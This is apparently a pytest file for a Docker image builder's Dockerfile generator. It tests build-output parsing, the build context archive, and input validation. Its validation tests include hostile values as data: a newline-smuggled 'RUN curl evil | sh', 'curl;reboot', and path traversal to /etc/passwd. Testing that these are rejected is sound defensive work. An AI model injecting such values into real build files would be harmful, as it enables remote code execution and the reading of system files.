"""Image builder without a Docker engine: the build-output parser, the build context, and
the use cases up to the build (``--no-build``): what is written, what is refused.

The engine is never reached here: every path below stops before a build starts. What
Docker does (the build itself, the cache, the labels) is tested in
``tests/integration/test_images.py``.
"""

from __future__ import annotations

import io
import os
import tarfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from ds01.adapters.clock import FixedClock
from ds01.adapters.docker_build import BuildStep, BuildStream, ContextFile, write_context
from ds01.config.settings import BuildSettings, GpuSettings, Settings
from ds01.domain.actor import Actor
from ds01.domain.dockerfile import CUSTOM_BEGIN, CUSTOM_END, USER_BLOCK_BEGIN
from ds01.domain.naming import project_image_name
from ds01.errors import ConfigError, UsageError
from ds01.services.context import AppContext
from ds01.services.image_build import ca_context_names, readable_by
from ds01.services.images import (
    CONTEXT_COMMENT,
    ImageCreateRequest,
    ImageService,
    ImageUpdateRequest,
)

# --------------------------------------------------------------------- build output

#: Events as Docker 20.10's classic builder streams them (captured, then trimmed).
FAILED_BUILD: list[dict[str, Any]] = [
    {"stream": "Step 1/4 : FROM ds01-test/bookworm-base:latest"},
    {"stream": "\n"},
    {"stream": " ---> 0841329e5072\n"},
    {"stream": "Step 2/4 : RUN echo hello && echo line2"},
    {"stream": "\n"},
    {"stream": " ---> Using cache\n"},
    {"stream": " ---> 72c0e8f7f571\n"},
    {"stream": "Step 3/4 : RUN echo failing >&2; exit 3"},
    {"stream": "\n"},
    {"stream": " ---> Running in a9b1aacd51b4\n"},
    {"stream": "partial "},
    {"stream": "line\r\n\x1b[91mfailing\n\x1b[0m"},
    {"stream": "Removing intermediate container a9b1aacd51b4\n"},
    {
        "errorDetail": {
            "code": 3,
            "message": "The command '/bin/sh -c echo failing >&2; exit 3' returned a "
            "non-zero code: 3",
        },
        "error": "The command '/bin/sh -c echo failing >&2; exit 3' returned a non-zero code: 3",
    },
]


def test_stream_follows_steps_and_keeps_the_failing_steps_own_lines() -> None:
    steps: list[BuildStep] = []
    lines: list[str] = []
    stream = BuildStream(on_step=steps.append, on_line=lines.append)
    for event in FAILED_BUILD:
        stream.feed(event)
    assert [s.number for s in steps] == [1, 2, 3]
    assert steps[-1] == BuildStep(3, 4, "RUN echo failing >&2; exit 3")
    assert stream.cached_steps == 1
    # Colour codes and CRs are gone, split chunks are joined, bookkeeping is not in the tail.
    assert list(stream.tail) == ["partial line", "failing"]
    assert stream.error_code == 3
    assert stream.error is not None and "non-zero code: 3" in stream.error
    assert "Step 2/4 : RUN echo hello && echo line2" in lines
    assert lines[-1].startswith("ERROR: ")


def test_stream_reads_the_image_id_and_pull_messages() -> None:
    lines: list[str] = []
    stream = BuildStream(on_line=lines.append)
    stream.feed({"status": "Pulling from aimehub/pytorch", "id": "2.8.0"})
    stream.feed({"status": "Downloading", "progressDetail": {"current": 1}, "id": "abc"})
    stream.feed({"aux": {"ID": "sha256:" + "a" * 64}})
    stream.feed({"stream": "Successfully built aaaaaaaaaaaa"})
    stream.finish()
    assert stream.image_id == "sha256:" + "a" * 64
    assert lines == ["2.8.0: Pulling from aimehub/pytorch", "Successfully built aaaaaaaaaaaa"]
    assert stream.error is None


def test_stream_tail_is_bounded() -> None:
    stream = BuildStream(tail=3)
    stream.feed({"stream": "Step 1/1 : RUN x\n" + "".join(f"l{i}\n" for i in range(10))})
    assert list(stream.tail) == ["l7", "l8", "l9"]


# --------------------------------------------------------------------- build context


def _members(data: io.BytesIO) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(fileobj=data) as tar:
        return {m.name: m for m in tar.getmembers()}


def test_generated_context_is_root_owned_and_timeless() -> None:
    out = io.BytesIO()
    size = write_context(out, [ContextFile(".ds01.Dockerfile", b"FROM x\n")])
    assert size == len(out.getvalue()) and out.tell() == 0
    member = _members(out)[".ds01.Dockerfile"]
    assert (member.uid, member.gid, member.mtime, member.mode) == (0, 0, 0, 0o644)


def test_directory_context_honours_dockerignore_and_generated_files_win(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("keep")
    (tmp_path / "secret.key").write_text("no")
    (tmp_path / ".dockerignore").write_text("# comment\n*.key\n")
    (tmp_path / "ds01-ca").mkdir()
    (tmp_path / "ds01-ca" / "x.crt").write_text("user's own")
    out = io.BytesIO()
    write_context(out, [ContextFile("ds01-ca/x.crt", b"generated")], directory=tmp_path)
    members = _members(out)
    assert "keep.txt" in members and "secret.key" not in members
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as tar:
        extracted = tar.extractfile("ds01-ca/x.crt")
        assert extracted is not None and extracted.read() == b"generated"
    assert all(m.uid == 0 and m.gid == 0 for m in members.values())


def test_directory_context_refuses_a_file_the_user_may_not_read(tmp_path: Path) -> None:
    (tmp_path / "private").write_text("x")
    with pytest.raises(UsageError) as err:
        write_context(
            io.BytesIO(),
            [],
            directory=tmp_path,
            may_read=lambda path, _st: path.name != "private",
        )
    assert err.value.code == "context_unreadable"


def test_ca_names_are_crt_unique_and_inside_the_context() -> None:
    names = ca_context_names(
        [Path("/etc/ssl/certs/ca-certificates.crt"), Path("/a/campus.pem"), Path("/b/campus.crt")]
    )
    assert names == ("ds01-ca/ca-certificates.crt", "ds01-ca/campus.crt", "ds01-ca/03-campus.crt")


def test_readable_by_uses_the_mode_bits_of_the_right_class() -> None:
    actor = Actor(uid=5000, gid=5000, name="nobody-here", home="/nonexistent")
    st = os.stat_result((0o100640, 0, 0, 1, 5000, 7777, 0, 0, 0, 0))
    assert readable_by(actor, st)  # owner bits
    st = os.stat_result((0o100604, 0, 0, 1, 0, 7777, 0, 0, 0, 0))
    assert readable_by(actor, st)  # others' bits
    st = os.stat_result((0o100640, 0, 0, 1, 0, 7777, 0, 0, 0, 0))
    assert not readable_by(actor, st)
    st = os.stat_result((0o040744, 0, 0, 1, 0, 0, 0, 0, 0, 0))
    assert readable_by(actor, st) and not readable_by(actor, st, enter=True)


# --------------------------------------------------------------------- the use cases


@pytest.fixture
def actor(tmp_path: Path) -> Actor:
    # Root may not build images; as root, act for an unprivileged uid.
    uid = os.getuid() or 4242
    gid = os.getgid() or 4242
    home = tmp_path / "home"
    home.mkdir()
    tmp_path.chmod(0o755)
    if os.geteuid() == 0:
        os.chown(home, uid, gid)
    return Actor(uid=uid, gid=gid, name="tester", home=str(home))


@pytest.fixture
def ctx(tmp_path: Path, aime_dir: Path, actor: Actor) -> AppContext:
    bundle = tmp_path / "campus.pem"
    bundle.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    settings = Settings(
        catalog=aime_dir / "ml_images.v2.repo",
        state_dir=tmp_path / "state",
        workspace_root="~/workspace",
        gpu=GpuSettings(inventory="none"),
        build=BuildSettings(ca_certificates=[bundle]),
    )
    clock = FixedClock(datetime(2026, 11, 28, 10, 0, tzinfo=UTC))
    return AppContext(settings=settings, actor=actor, clock=clock)


def project_dir(actor: Actor, name: str) -> Path:
    return Path(actor.home) / "workspace" / name


def make_dirs(actor: Actor, path: Path) -> Path:
    """``mkdir -p`` as the user would have (as root: owned by the user)."""
    missing = [p for p in (path, *path.parents) if not p.exists()]
    path.mkdir(parents=True)
    if os.geteuid() == 0:
        for directory in missing:
            os.chown(directory, actor.uid, actor.gid)
    return path


def create(ctx: AppContext, actor: Actor, name: str = "cv", **flags: Any) -> Any:
    flags.setdefault("arch", "CUDA_ADA")
    request = ImageCreateRequest(name=name, build=False, cwd=Path(actor.home), **flags)
    return ImageService(ctx).create(actor, request)


def test_no_build_writes_the_dockerfile_in_the_project_directory(
    ctx: AppContext, actor: Actor
) -> None:
    result = create(ctx, actor, use_case="cv", pip=("rich pandas",), apt=("ffmpeg",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    assert result.dockerfile == str(dockerfile)
    assert (result.written, result.built) == (True, False)
    assert result.image == project_image_name("cv", actor.name) == "cv-tester-image:latest"
    assert result.base == "aimehub/pytorch-2.8.0-cuda12.6.3"
    assert result.framework == "Pytorch-2.8.0"
    assert result.tiers == ("framework", "system", "jupyter", "datascience", "cv", "custom")
    text = dockerfile.read_text()
    assert text.startswith("# Dockerfile of the DS01 image cv-tester-image:latest")
    assert "COPY ds01-ca/campus.crt " in text  # the configured CA, renamed for update-ca
    assert dockerfile.stat().st_uid == actor.uid and dockerfile.stat().st_mode & 0o777 == 0o644
    # pandas is in the base tier already: left out of the custom tier, and said so.
    assert any("pandas" in note and "left out" in note for note in result.notes)
    # The same request again changes nothing.
    assert create(ctx, actor, use_case="cv", pip=("rich pandas",), apt=("ffmpeg",)).written is False


def test_a_different_dockerfile_is_kept_unless_forced(ctx: AppContext, actor: Actor) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    edited = dockerfile.read_text() + "# my own note\n"
    dockerfile.write_text(edited)
    with pytest.raises(UsageError) as err:
        create(ctx, actor, pip=("rich",))
    assert err.value.code == "dockerfile_exists"
    assert err.value.hint is not None and "image update cv" in err.value.hint
    assert dockerfile.read_text() == edited
    result = create(ctx, actor, pip=("rich",), force=True)
    assert result.written
    assert (dockerfile.parent / "Dockerfile.bak").read_text() == edited
    assert "# my own note" not in dockerfile.read_text()


@pytest.mark.parametrize(
    "flags",
    [
        {"pip": ("x\nRUN curl evil | sh",)},
        {"apt": ("curl;reboot",)},
        {"base": "debian\nRUN x"},
        {"use_case": "cv\nRUN x"},
        {"requirements": "/etc/passwd"},
        {"dockerfile": "../../../../../etc/passwd"},
        {"dockerfile": "~root/Dockerfile"},
        {"base": "debian", "framework": "pytorch"},
    ],
)
def test_bad_input_exits_2_before_anything_is_written(
    ctx: AppContext, actor: Actor, flags: dict[str, Any]
) -> None:
    if "base" in flags:
        flags["arch"] = None
    with pytest.raises(UsageError):
        create(ctx, actor, name="evil", **flags)
    assert not project_dir(actor, "evil").exists()
    assert not (Path(actor.home) / "workspace").exists()


@pytest.mark.parametrize("name", ["../../etc", "bad\nname", "-x", "a._.b"])
def test_bad_project_names_exit_2(ctx: AppContext, actor: Actor, name: str) -> None:
    with pytest.raises(UsageError):
        create(ctx, actor, name=name)
    assert not (Path(actor.home) / "workspace").exists()


def test_requirements_file_replaces_tiers_2_and_3(ctx: AppContext, actor: Actor) -> None:
    req = Path(actor.home) / "requirements.txt"
    req.write_text("numpy>=1.26\n# a comment\ntorchmetrics\n")
    result = create(ctx, actor, requirements="requirements.txt")
    assert result.tiers == ("framework", "system", "requirements")
    text = (project_dir(actor, "cv") / "Dockerfile").read_text()
    assert "'numpy>=1.26'" in text and "torchmetrics" in text
    with pytest.raises(UsageError) as err:
        create(ctx, actor, name="cv2", requirements="requirements.txt", use_case="cv")
    assert err.value.code == "conflicting_flags"


def test_unreadable_ca_certificate_is_a_config_error(
    ctx: AppContext, actor: Actor, tmp_path: Path
) -> None:
    (tmp_path / "campus.pem").unlink()
    with pytest.raises(ConfigError):
        create(ctx, actor)
    assert not project_dir(actor, "cv").exists()


def update(ctx: AppContext, actor: Actor, name: str = "cv", **flags: Any) -> Any:
    return ImageService(ctx).update(actor, ImageUpdateRequest(name=name, build=False, **flags))


def test_update_edits_only_the_custom_tier(ctx: AppContext, actor: Actor) -> None:
    create(ctx, actor, pip=("rich",))
    dockerfile = project_dir(actor, "cv") / "Dockerfile"
    before = dockerfile.read_text()
    result = update(ctx, actor, add_pip=("httpx rich==13.7",), add_apt=("ffmpeg",))
    assert result.written
    after = dockerfile.read_text()
    head, tail = before.split(CUSTOM_BEGIN)[0], before.split(CUSTOM_END)[1]
    assert after.startswith(head) and after.endswith(tail)
    custom = after.split(CUSTOM_BEGIN)[1].split(CUSTOM_END)[0]
    assert "rich==13.7" in custom and "httpx" in custom and "ffmpeg" in custom
    result = update(ctx, actor, remove=("httpx ffmpeg",))
    custom = dockerfile.read_text().split(CUSTOM_BEGIN)[1].split(CUSTOM_END)[0]
    assert "httpx" not in custom and "ffmpeg" not in custom and "rich==13.7" in custom
    with pytest.raises(UsageError) as err:
        update(ctx, actor, remove=("pandas",))
    assert err.value.code == "not_in_custom_tier"
    with pytest.raises(UsageError):
        update(ctx, actor, add_pip=("x\nRUN evil",))


def test_update_refuses_a_dockerfile_without_markers(ctx: AppContext, actor: Actor) -> None:
    project = make_dirs(actor, project_dir(actor, "plain"))
    (project / "Dockerfile").write_text("FROM debian:bookworm\nRUN true\n")
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="plain", add_pip=("rich",))
    assert err.value.code == "no_markers" and err.value.hint
    assert (project / "Dockerfile").read_text() == "FROM debian:bookworm\nRUN true\n"
    with pytest.raises(UsageError) as missing:
        update(ctx, actor, name="nothing-here")
    assert missing.value.code == "no_dockerfile"


def test_a_linked_dockerfile_is_refused(ctx: AppContext, actor: Actor, tmp_path: Path) -> None:
    project = make_dirs(actor, project_dir(actor, "linked"))
    (project / "Dockerfile").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="linked")
    assert err.value.code == "bad_dockerfile"


def test_own_dockerfile_is_wrapped_in_place_and_idempotently(ctx: AppContext, actor: Actor) -> None:
    project = make_dirs(actor, project_dir(actor, "own"))
    own = "FROM python:3.12-slim\nCOPY . /src\n"
    (project / "Dockerfile").write_text(own)
    result = create(ctx, actor, name="own", dockerfile="workspace/own/Dockerfile", arch=None)
    text = (project / "Dockerfile").read_text()
    assert text.startswith(own) and USER_BLOCK_BEGIN in text
    assert CONTEXT_COMMENT not in text  # built in its own directory, the project's
    assert result.base == "python:3.12-slim" and result.framework == "custom"
    assert result.tiers[0] == "dockerfile"
    again = create(ctx, actor, name="own", dockerfile="workspace/own/Dockerfile", arch=None)
    assert again.written is False


def test_own_dockerfile_elsewhere_records_its_context(ctx: AppContext, actor: Actor) -> None:
    source = make_dirs(actor, Path(actor.home) / "src" / "app")
    (source / "Dockerfile").write_text("FROM debian:bookworm\n")
    create(ctx, actor, name="app", dockerfile=str(source / "Dockerfile"), arch=None)
    text = (project_dir(actor, "app") / "Dockerfile").read_text()
    assert text.endswith(f"{CONTEXT_COMMENT}{source}\n")
    # Wrapping again replaces DS01's block and its context line rather than adding more.
    (source / "Dockerfile").write_text(text)
    create(ctx, actor, name="app", dockerfile=str(source / "Dockerfile"), arch=None, force=True)
    assert (project_dir(actor, "app") / "Dockerfile").read_text().count(CONTEXT_COMMENT) == 1
    # `image update` builds it in that recorded directory, which must stay an allowed one.
    assert update(ctx, actor, name="app").written is False
    dockerfile = project_dir(actor, "app") / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text().replace(str(source), "/etc"))
    with pytest.raises(UsageError) as err:
        update(ctx, actor, name="app")
    assert err.value.code == "path_not_allowed"
